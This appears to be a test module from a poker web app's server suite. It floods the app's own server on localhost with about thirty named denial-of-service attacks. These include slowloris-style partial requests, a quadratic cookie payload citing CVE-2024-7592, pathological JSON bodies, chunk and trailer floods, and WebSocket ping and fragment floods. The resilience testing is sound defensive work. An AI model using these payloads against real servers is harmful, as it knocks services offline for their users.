"""Attacks a room from a process of its own: `python -m tests.server.flood pings 8008 1 5`.

Arguments are the kind of attack, the port, the number of addresses (all of 127.0.0.0/8 is this
machine), the seconds, and optionally the number of concurrent connections. Each connection repeats
its attack until the time is over. The results are counted and printed as JSON.
"""

import asyncio
import contextlib
import json
import os
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

HELLO = (
    b"GET /ws HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
TEXT, BINARY, CONT, PING, PONG = 1, 2, 0, 9, 10


def frame(opcode: int, data: bytes = b"", fin: bool = True) -> bytes:
    """Return a client's frame. Its mask is all zeros, so it does not change the data."""
    size = bytes([0x80 | len(data)]) if len(data) < 126 else b"\xfe" + struct.pack("!H", len(data))
    return bytes([(0x80 if fin else 0) | opcode]) + size + bytes(4) + data


class Line:
    """One connection of an attacker."""

    def __init__(self, where: tuple[str, int], came_from: str, seen: Counter[str]) -> None:
        self.where, self.came_from, self.seen = where, came_from, seen
        self.socket = socket.socket()
        self.loop = asyncio.get_running_loop()

    async def open(self, window: int | None = None) -> None:
        if window is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        self.socket.setblocking(False)
        self.socket.bind((self.came_from, 0))
        await self.loop.sock_connect(self.socket, self.where)
        self.seen["opened"] += 1

    async def send(self, data: bytes) -> None:
        await self.loop.sock_sendall(self.socket, data)

    async def read(self) -> bytes:
        data = await self.loop.sock_recv(self.socket, 65536)
        if not data:
            raise ConnectionError("closed")
        return data

    async def become_a_socket(self) -> None:
        await self.open()
        await self.send(HELLO)
        status = (await self.read())[9:12].decode()
        self.seen[f"answered {status}"] += 1
        if status != "101":
            await asyncio.sleep(0.05)
            raise ConnectionError(status)

    async def until_closed(self) -> None:
        while True:
            await self.read()

    async def alongside(self, data: bytes, often: int = 10**9) -> None:
        """Sends *data* up to *often* times while reading the answers, until the connection is
        closed.
        """
        reading = asyncio.ensure_future(self.until_closed())
        try:
            for _ in range(often):
                if reading.done():
                    break
                await self.send(data)
                self.seen["sent"] += 1
            await reading
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)


async def half_a_head(line: Line) -> None:
    await line.open()
    await line.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    reading = asyncio.ensure_future(line.until_closed())
    try:
        while not reading.done():
            await line.send(b"X")
            await asyncio.wait([reading], timeout=0.5)
        await reading
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


async def nothing_at_all(line: Line) -> None:
    await line.open()
    await line.until_closed()


async def half_a_body(line: Line) -> None:
    await line.open()
    await line.send(b"POST /api/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000\r\n\r\n{")
    await line.until_closed()


async def too_much(line: Line) -> None:
    """Sends an endless body to a route that needs a short one."""
    await line.open()
    head = b"POST /api/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 999999999\r\n\r\n"
    await line.send(head + bytes(500_000))
    while True:
        await line.send(bytes(500_000))


async def tiny_chunks(line: Line) -> None:
    """A body of 60,000 bytes, each in a chunk of its own."""
    await line.open()
    head = b"POST /api/login HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await line.alongside(head + b"1\r\nx\r\n" * 60_000 + b"0\r\n\r\n", 1)


async def quoted_cookie(line: Line) -> None:
    """Sends a cookie that Python needs quadratic time to unquote (CVE-2024-7592)."""
    await line.open()
    cookie = b'\\"' * 30_000
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
    await line.alongside(head + b'Cookie: a="' + cookie + b'"\r\n\r\n', 1)


async def quoted_cookie_for_a_socket(line: Line) -> None:
    await line.open()
    await line.alongside(HELLO[:-2] + b'Cookie: a="' + b'\\"' * 30_000 + b'"\r\n\r\n', 1)


async def unreadable_handshake(line: Line) -> None:
    """The WebSocket library refuses the header, and uvicorn answers nothing."""
    await line.open()
    await line.send(HELLO[:-2] + b"X: " + b"x" * 9000 + b"\r\n\r\n")
    await line.until_closed()


async def spaces(line: Line) -> None:
    """Sends spaces before a control character, for which h11 needs quadratic time."""
    await line.open()
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: a"
    await line.alongside(head + b" " * 15_000 + b"\x01\r\n\r\n", 1)


async def trailers(line: Line) -> None:
    await line.open()
    head = b"POST /api/login HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await line.alongside(head + b"0\r\n" + b"X: y\r\n" * 15_000 + b"\r\n", 1)


async def pipelined(line: Line) -> None:
    """Sends thousands of requests at once and reads the answers."""
    await line.open()
    await line.alongside(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n" * 3000)


async def hosts(line: Line) -> None:
    """Asks for host names that the room does not have, as in DNS rebinding."""
    await line.open()
    while True:
        name = b"a." * 500 + os.urandom(4).hex().encode() + b".example"
        await line.send(b"GET / HTTP/1.1\r\nHost: " + name + b"\r\n\r\n")
        line.seen[f"answered {(await line.read())[9:12].decode()}"] += 1


async def _post(line: Line, path: str, body: bytes, cookie: bytes = b"") -> bytes:
    """Send a POST request and return the first piece of the answer."""
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    head += f"Content-Length: {len(body)}\r\n"
    more = b"Cookie: " + cookie + b"\r\n" if cookie else b""
    await line.send(head.encode() + more + b"\r\n" + body)
    answer = await line.read()
    line.seen[f"answered {answer[9:12].decode()}"] += 1
    return answer


BODIES = (
    b"[" * 60_000,
    b'{"name":"' + b"1" * 60_000 + b'"}',
    b'{"name":' + b"1" * 60_000 + b"}",
    b'{"name":"' + "e\u0301\u0302\u0303\u0304".encode() * 6000 + b'"}',
    b'{"name":"A\\u0000da"}',
    b"{" + b'"a":1,' * 8000 + b'"a":1}',
    b'{"name":"' + b"\\u00e9" * 9000 + b'"}',
)
"""Bodies that are expensive to parse: nested lists, long numbers, stacked accents, NUL, many
fields, escapes.
"""


async def hostile_bodies(line: Line) -> None:
    await line.open()
    while True:
        for body in BODIES:
            for path in ("/api/guests", "/api/login"):
                answer = await _post(line, path, body)
                if b"connection: close" in answer.lower():
                    raise ConnectionError("closed")


async def _become_a_guest(line: Line) -> bytes:
    """Open the connection. Return the cookie of a new guest."""
    await line.open()
    answer = await _post(line, "/api/guests", b"")
    head = answer.lower()
    start = head.find(b"set-cookie: ") + len(b"set-cookie: ")
    if not answer.startswith(b"HTTP/1.1 201"):
        await asyncio.sleep(1)
        raise ConnectionError("no guest")
    return answer[start : answer.find(b";", start)]


async def _come_in(line: Line, cookie: bytes) -> None:
    """Turns the connection into the guest's WebSocket."""
    await line.send(HELLO[:-2] + b"Cookie: " + cookie + b"\r\n\r\n")
    answer = await line.read()
    if not answer.startswith(b"HTTP/1.1 101"):
        raise ConnectionError("no socket")
    line.seen["came in"] += 1


async def hostile_ranges(line: Line) -> None:
    """Asks for equities of long ranges, as a guest may."""
    cookie = await _become_a_guest(line)
    hands = ",".join(
        f"{a}{b}{s}:0.{n}1" for n in range(1, 9) for a in "AKQJ" for b in "T98765" for s in "so"
    )
    body = json.dumps({"hands": [hands[:8000]] * 10, "exact": True}).encode()
    while True:
        await _post(line, "/api/tools/equity", body, cookie)
        await _post(line, "/api/tools/range", b'{"text":"' + b"AA," * 20_000 + b'KK"}', cookie)


async def ghosts(line: Line) -> None:
    """Takes seats at several tables as a guest and then disconnects."""
    await _come_in(line, await _become_a_guest(line))
    for number in range(4):
        await line.send(frame(TEXT, json.dumps({"do": "play_now", "id": str(number)}).encode()))
    await asyncio.sleep(0.3)
    await line.read()


async def orders(line: Line) -> None:
    """Sends director's commands without a pause as the host of a tournament, and opens more of
    them.
    """
    cookie = await _become_a_guest(line)
    opening = json.dumps({"name": "Orders", "structure": "sitandgo"}).encode()
    answer = await _post(line, "/api/tournaments", opening, cookie)
    start = answer.find(b'"id":"') + 6
    id = answer[start : answer.find(b'"', start)].decode()
    for _ in range(5):
        await _post(line, "/api/tournaments", opening, cookie)
    await _come_in(line, cookie)
    asks: list[dict[str, object]] = [{"do": "register"}, {"do": "unregister"}]
    asks += [
        {"do": "direct", "command": command, "number": 1, "name": "Nobody", "reason": "x" * 300}
        for command in ("start", "pause", "resume", "break", "next_level", "move", "disqualify")
    ]
    data = b"".join(
        frame(TEXT, json.dumps(ask | {"id": str(n), "tournament": id}).encode())
        for n, ask in enumerate(asks * 5)
    )
    await line.alongside(data)


async def seats_in_and_out(line: Line) -> None:
    """Takes seats and writes in the chat as a guest, as fast as possible."""
    await _come_in(line, await _become_a_guest(line))
    marks = "e\u0301\u0302\u0303\u0304" * 60
    asks = (
        {"do": "watch_lobby"},
        {"do": "tournaments"},
        {"do": "play_now"},
        {"do": "say", "text": marks},
    )
    data = b"".join(
        frame(TEXT, json.dumps(ask | {"id": str(n), "masa": "3f0c9a12"}).encode())
        for n, ask in enumerate(asks * 10)
    )
    await line.alongside(data)


async def unread(line: Line) -> None:
    """Requests the longest response of the room and does not read it."""
    await line.open(window=1)
    await line.send(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 3)
    while True:  # A closed connection is noticed only when something is sent.
        await asyncio.sleep(0.5)
        await line.send(b"G")


async def crumbs(line: Line) -> None:
    await line.open()
    line.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    await line.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
    await line.alongside(b"y")


async def open_and_close(line: Line) -> None:
    await line.open()


async def garbage(line: Line) -> None:
    await line.open()
    await line.send(b"\x16\x03\x01\x02\x00\x01" + os.urandom(200) + b"\r\n\r\n")
    await line.until_closed()


async def requests(line: Line, path: bytes = b"/") -> None:
    await line.open()
    while True:
        await line.send(b"GET " + path + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")
        line.seen[f"answered {(await line.read())[9:12].decode()}"] += 1


async def health(line: Line) -> None:
    await requests(line, b"/health")


async def long_names(line: Line) -> None:
    await requests(line, b"/assets/" + b"a" * 300)


async def guests(line: Line) -> None:
    await line.open()
    while True:
        await line.send(
            b"POST /api/guests HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n"
        )
        line.seen[f"answered {(await line.read())[9:12].decode()}"] += 1


async def silent_sockets(line: Line) -> None:
    await line.become_a_socket()
    await line.until_closed()


async def sockets_in_and_out(line: Line) -> None:
    await line.become_a_socket()


async def pings(line: Line) -> None:
    await line.become_a_socket()
    await line.alongside(frame(PING) * 5000)


async def pongs(line: Line) -> None:
    await line.become_a_socket()
    await line.alongside(frame(PONG, b"12345678") * 5000)


async def fragments(line: Line) -> None:
    await line.become_a_socket()
    await line.send(frame(TEXT, b'{"do":', fin=False))
    await line.alongside(frame(CONT, b"", fin=False) * 5000)


async def messages(line: Line) -> None:
    await line.become_a_socket()
    await line.alongside(frame(TEXT, b'{"do":"ping","id":"1"}') * 1000)


async def unread_pings(line: Line) -> None:
    """Sends pings without reading, so that the pongs pile up."""
    await line.become_a_socket()
    while True:
        await line.send(frame(PING, b"x" * 100) * 500)


async def frames_in_crumbs(line: Line) -> None:
    await line.become_a_socket()
    line.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    await line.send(frame(TEXT, b"x" * 4000)[:10])
    await line.alongside(b"x", 3900)


async def onlookers(line: Line) -> None:
    """Watches every open table."""
    await line.become_a_socket()
    await line.send(frame(TEXT, b'{"do":"watch_lobby","id":"1"}'))
    tables: set[str] = set()
    while True:
        for word in (await line.read()).decode(errors="replace").split('"id":"')[1:]:
            id = word.partition('"')[0]
            if len(id) == 8 and id not in tables:
                tables.add(id)
                ask = {"do": "watch", "masa": id, "id": id}
                await line.send(frame(TEXT, json.dumps(ask).encode()))


ATTACKS: dict[str, tuple[Callable[[Line], Awaitable[None]], int]] = {
    kind.__name__: (kind, lines)
    for kind, lines in (
        (half_a_head, 1500),
        (nothing_at_all, 1500),
        (half_a_body, 1500),
        (too_much, 100),
        (tiny_chunks, 20),
        (quoted_cookie, 20),
        (quoted_cookie_for_a_socket, 20),
        (unreadable_handshake, 50),
        (spaces, 20),
        (trailers, 20),
        (pipelined, 20),
        (hosts, 50),
        (hostile_bodies, 20),
        (hostile_ranges, 20),
        (ghosts, 30),
        (orders, 20),
        (seats_in_and_out, 20),
        (unread, 300),
        (crumbs, 300),
        (open_and_close, 50),
        (garbage, 50),
        (requests, 100),
        (health, 50),
        (long_names, 50),
        (guests, 50),
        (silent_sockets, 1500),
        (sockets_in_and_out, 100),
        (pings, 20),
        (pongs, 20),
        (fragments, 20),
        (messages, 20),
        (unread_pings, 20),
        (frames_in_crumbs, 100),
        (onlookers, 300),
    )
}
"""Attacks by name, with the number of concurrent connections."""


async def attack(kind: str, port: int, addresses: int, seconds: float, lines: int) -> Counter[str]:
    seen: Counter[str] = Counter()
    work = ATTACKS[kind][0]
    until = time.monotonic() + seconds

    async def keep_going(number: int) -> None:
        came_from = f"127.0.{1 + number % addresses // 250}.{1 + number % addresses % 250}"
        while time.monotonic() < until:
            line = Line(("127.0.0.1", port), came_from, seen)
            try:
                await work(line)
            except OSError as error:
                seen[type(error).__name__] += 1
                await asyncio.sleep(0.01)
            finally:
                line.socket.close()

    tasks = [asyncio.create_task(keep_going(number)) for number in range(lines)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await asyncio.gather(*tasks, return_exceptions=True)
    return seen


def main() -> None:
    kind, port, addresses, seconds = sys.argv[1:5]
    lines = int(sys.argv[5]) if len(sys.argv) > 5 else ATTACKS[kind][1]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    seen = asyncio.run(attack(kind, int(port), int(addresses), float(seconds), lines))
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
